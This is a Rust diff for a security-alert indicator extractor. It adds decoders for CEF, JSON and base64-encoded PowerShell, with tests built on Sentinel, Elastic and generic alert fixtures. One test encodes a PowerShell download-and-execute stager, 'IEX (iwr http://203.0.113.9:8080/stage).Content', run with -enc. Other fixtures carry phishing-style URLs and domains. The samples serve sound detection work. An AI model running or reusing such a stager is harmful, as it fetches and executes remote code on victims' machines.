@@ -12,6 +12,7 @@ use md5::{Digest, Md5};
 use serde::Serialize;
 use serde_json::Value;
 
+use crate::decoders::{self, Decoder, Switches};
 use crate::indicators::{self, IndicatorType};
 use crate::paths;
 use crate::sources::{AlertSource, NormalizedAlert, RawIndicator};
@@ -91,6 +92,10 @@ pub struct Indicator {
     /// The pass that found it (`source_plugin`, `normalized_mappings`, `raw_payload_mappings`,
     /// `free_text`).
     pub pass: ExtractionPass,
+    /// The decoder that revealed it inside an encoded or wrapped field (`cef`, `json`,
+    /// `powershell-base64`, …); absent when it was written plainly.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub decoder: Option<Decoder>,
 }
 
 /// A value that could not be its type.
@@ -146,6 +151,7 @@ fn pass(which: ExtractionPass, found: Vec<RawIndicator>) -> PassReport {
                 value,
                 source_field: raw.source_field,
                 pass: which,
+                decoder: raw.decoder,
             }),
             Err(reason) => report.rejected.push(Rejected {
                 kind: raw.kind,
@@ -174,6 +180,7 @@ fn normalized_pass(alert: &NormalizedAlert, rules: &[MappingRule]) -> Vec<RawInd
                 kind,
                 value: value.clone(),
                 source_field: format!("normalized.{}", r.field_path),
+                decoder: None,
             })
         })
         .collect()
@@ -194,6 +201,7 @@ fn raw_payload_pass(source: &str, raw: &Value, rules: &[MappingRule]) -> Vec<Raw
                     kind,
                     value,
                     source_field: format!("raw_payload.{}", rule.field_path),
+                    decoder: None,
                 });
             }
         }
@@ -239,11 +247,23 @@ fn free_text_pass(source: &dyn AlertSource, raw: &Value, rules: &[MappingRule]) 
             texts.extend(values.into_iter().map(|t| (rule.field_path.clone(), t, keep)));
         }
     }
+    // Each decoder is switched like a field, by the path `@<decoder>`.
+    let mut switches = Switches::all_on();
+    for decoder in Decoder::ALL {
+        if !decided(&decoder.switch()).unwrap_or(true) {
+            switches.turn_off(*decoder);
+        }
+    }
     let mut out = Vec::new();
     for (field, text, keep) in texts {
-        for found in crate::freetext::scan(&text) {
+        for found in decoders::scan(&text, &switches) {
             if keep.is_none_or(|k| k == found.kind) {
-                out.push(RawIndicator { kind: found.kind, value: found.value, source_field: field.clone() });
+                out.push(RawIndicator {
+                    kind: found.kind,
+                    value: found.value,
+                    source_field: field.clone(),
+                    decoder: found.decoder,
+                });
             }
         }
     }
@@ -393,6 +413,124 @@ mod tests {
         assert_eq!(extract(source, &raw, &alert, &[], false).passes.len(), 2);
     }
 
+    fn found_with(
+        source: &str,
+        raw: &Value,
+        rules: &[MappingRule],
+    ) -> Vec<(String, String, String, Option<&'static str>)> {
+        let source = sources::find(source).unwrap();
+        assert!(source.validate(raw), "{raw}");
+        let alert = source.normalize(raw, Utc::now());
+        extract(source, raw, &alert, rules, true)
+            .indicators
+            .into_iter()
+            .map(|i| (i.kind.as_str().to_string(), i.value, i.source_field, i.decoder.map(Decoder::as_str)))
+            .collect()
+    }
+
+    #[test]
+    fn a_sentinel_security_alert_yields_its_entities_string_and_extended_properties() {
+        // As Log Analytics stores it (and Logic Apps forward it): Entities and ExtendedProperties
+        // are JSON strings.
+        let entities = serde_json::to_string(&json!([
+            {"$id": "2", "Type": "account", "Name": "jdoe", "UPNSuffix": "contoso.com"},
+            {"$id": "3", "Type": "ip", "Address": "185.220.101.48"},
+            {"$id": "4", "Type": "host", "HostName": "ws-042", "DnsDomain": "corp.local"},
+            {"$id": "5", "Type": "url", "Url": "https://login-contoso.top/owa"},
+            {"$id": "6", "Type": "filehash", "Algorithm": "SHA256", "Value": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}
+        ]))
+        .unwrap();
+        let extended = serde_json::to_string(
+            &json!({"Client IP Address": "198.51.100.61", "User Account": "ann@contoso.com"}),
+        )
+        .unwrap();
+        let raw = json!({
+            "AlertName": "Anonymous IP address", "AlertSeverity": "Medium", "SystemAlertId": "b1",
+            "Description": "Sign-in from an anonymous IP address", "StartTime": "2026-12-01T10:00:00Z",
+            "Entities": entities, "ExtendedProperties": extended,
+        });
+        let source = sources::find("sentinel").unwrap();
+        let alert = source.normalize(&raw, Utc::now());
+        assert_eq!(
+            (alert.title.as_str(), alert.severity),
+            ("Anonymous IP address", crate::alerts::Severity::Medium)
+        );
+        let found = found_with("sentinel", &raw, &[]);
+        let pairs: Vec<(&str, &str, Option<&str>)> =
+            found.iter().map(|(k, v, _, d)| (k.as_str(), v.as_str(), *d)).collect();
+        for expected in [
+            ("account", "jdoe@contoso.com", Some("json")),
+            ("ip", "185.220.101.48", Some("json")),
+            ("url", "https://login-contoso.top/owa", Some("json")),
+            ("hash_sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", Some("json")),
+            ("ip", "198.51.100.61", Some("json")),
+            ("account", "ann@contoso.com", Some("json")),
+        ] {
+            assert!(pairs.contains(&expected), "{expected:?} in {pairs:?}");
+        }
+        assert!(found.iter().any(|(_, _, field, _)| field == "ExtendedProperties"));
+    }
+
+    #[test]
+    fn ecs_threat_indicator_fields_are_read_in_pass_one() {
+        let raw = json!({
+            "kibana.alert.rule": {"name": "Threat intel match"},
+            "threat": {"indicator": {
+                "ip": "203.0.113.80", "domain": "evil-cdn.top", "url": {"full": "https://evil-cdn.top/a", "original": "hxxps://evil-cdn[.]top/b"},
+                "email": {"address": "phish@evil-cdn.top"},
+                "file": {"hash": {"md5": "d41d8cd98f00b204e9800998ecf8427e", "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
+                                   "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}
+            }}
+        });
+        let found = found_with("elastic", &raw, &[]);
+        let plugin: Vec<(&str, &str)> = found
+            .iter()
+            .filter(|(_, _, field, _)| field.starts_with("threat.indicator."))
+            .map(|(k, v, _, _)| (k.as_str(), v.as_str()))
+            .collect();
+        for kind in ["ip", "domain", "url", "email", "hash_md5", "hash_sha1", "hash_sha256"] {
+            assert!(plugin.iter().any(|(k, _)| *k == kind), "{kind} in {plugin:?}");
+        }
+        assert!(plugin.contains(&("url", "https://evil-cdn.top/b")), "url.original refanged: {plugin:?}");
+    }
+
+    #[test]
+    fn decoded_indicators_name_their_field_and_decoder_and_each_decoder_has_a_switch() {
+        use base64::Engine as _;
+        let command = "IEX (iwr http://203.0.113.9:8080/stage).Content";
+        let utf16: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let line =
+            format!("powershell.exe -nop -enc {}", base64::engine::general_purpose::STANDARD.encode(utf16));
+        let raw = json!({"title": "Encoded PowerShell", "command_line": line,
+            "raw": "<134>Dec 01 10:00:00 fw CEF:0|Acme|FW|1|1|Blocked|5|src=198.51.100.7 suser=CORP\\\\ann"});
+        let found = found_with("generic", &raw, &[]);
+        assert!(
+            found.contains(&(
+                "url".into(),
+                "http://203.0.113.9:8080/stage".into(),
+                "command_line".into(),
+                Some("powershell-base64")
+            )),
+            "{found:?}"
+        );
+        assert!(
+            found.contains(&("account".into(), "corp\\ann".into(), "raw".into(), Some("cef"))),
+            "{found:?}"
+        );
+        let off = |decoder: Decoder, source: Option<&str>| MappingRule {
+            source_name: source.map(str::to_string),
+            field_path: decoder.switch(),
+            indicator_type: "url".into(),
+            extraction_target: TARGET_FREE_TEXT.into(),
+            is_active: false,
+        };
+        let without = found_with("generic", &raw, &[off(Decoder::PowershellBase64, None)]);
+        assert!(!without.iter().any(|i| i.3 == Some("powershell-base64")), "{without:?}");
+        assert!(without.iter().any(|i| i.3 == Some("cef")), "the other decoders still run");
+        let other_source = found_with("generic", &raw, &[off(Decoder::Cef, Some("elastic"))]);
+        assert!(other_source.iter().any(|i| i.3 == Some("cef")), "another source's switch");
+    }
+
     #[test]
     fn fingerprint_is_order_independent_md5_over_normalized_values() {
         let a = Indicator {
@@ -400,12 +538,14 @@ mod tests {
             value: "1.2.3.4".into(),
             source_field: "x".into(),
             pass: ExtractionPass::SourcePlugin,
+            decoder: None,
         };
         let b = Indicator {
             kind: IndicatorType::Domain,
             value: "evil.com".into(),
             source_field: "y".into(),
             pass: ExtractionPass::SourcePlugin,
+            decoder: None,
         };
         let f1 = fingerprint("T", "generic", &[a.clone(), b.clone()]);
         let f2 = fingerprint("T", "generic", &[b, a.clone(), a]);
